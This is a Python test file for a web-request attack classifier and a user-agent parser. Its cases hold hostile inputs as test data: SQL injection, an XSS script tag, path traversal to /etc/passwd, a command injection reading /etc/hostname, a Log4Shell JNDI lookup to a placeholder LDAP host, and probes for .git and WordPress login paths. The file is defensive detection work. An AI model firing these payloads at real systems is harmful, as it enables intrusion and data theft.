"""Words of attacks, and kinds of clients."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from security.rules import patterns
from security.rules.clients import family


@pytest.mark.parametrize(
    "request_line, kind",
    [
        ("/api/v1/alerts/?q=1%27%20OR%20%271%27=%271", "sqli"),
        ("/x?id=1+UNION/**/ALL+SELECT+1,2", "sqli"),
        ("/x?q=%3Cscript%3Ealert(1)%3C/script%3E", "xss"),
        ("/x?f=..%2f..%2f..%2fetc%2fpasswd", "lfi"),
        ("/x?f=..%252f..%252fboot.ini", "lfi"),
        ("/x?c=;cat%20/etc/hostname", "rce"),
        ("/?x=${jndi:ldap://192.0.2.1/a}", "rce"),
        ("/.git/config", "probe"),
        ("/wp-login.php", "probe"),
        ("/admin/alerts/alert/?q=select+a+service", ""),
        ("/api/v1/alerts/?state=firing&severity=critical,warning", ""),
        (
            "/api/v1/metrics/query_range/?query=sum(rate(http_requests_total%7Bjob%3D%22api%22%7D%5B5m%5D))",
            "",
        ),
        ("", ""),
    ],
)
def test_attacks_are_told_from_work(request_line: str, kind: str) -> None:
    assert patterns.signal(request_line) == kind


@pytest.mark.parametrize("piece", ["' ", "<  ", ";", "union ", "select ", "../", "%25", "on"])
def test_no_text_makes_the_patterns_slow(piece: str) -> None:
    began = time.perf_counter()
    patterns.signal(piece * 100_000)
    assert time.perf_counter() - began < 0.1


@given(st.text())
def test_any_text_has_an_answer(text: str) -> None:
    assert patterns.signal(text) in {"", "sqli", "xss", "lfi", "rce", "probe"}
    assert family(text)


@pytest.mark.parametrize(
    "user_agent, kind",
    [
        ("curl/8.5.0", "curl"),
        ("python-requests/2.32.3", "python-requests"),
        ("Prometheus/2.53", "Prometheus"),
        ("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "Firefox on Linux"),
        ("Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 Chrome/131.0 Safari/537.36 Edg/131.0", "Edge on Windows"),
        ("", "unknown"),
        ("\x00\ufffd", "unknown"),
    ],
)  # fmt: skip
def test_a_client_is_its_kind_without_its_version(user_agent: str, kind: str) -> None:
    assert family(user_agent) == kind
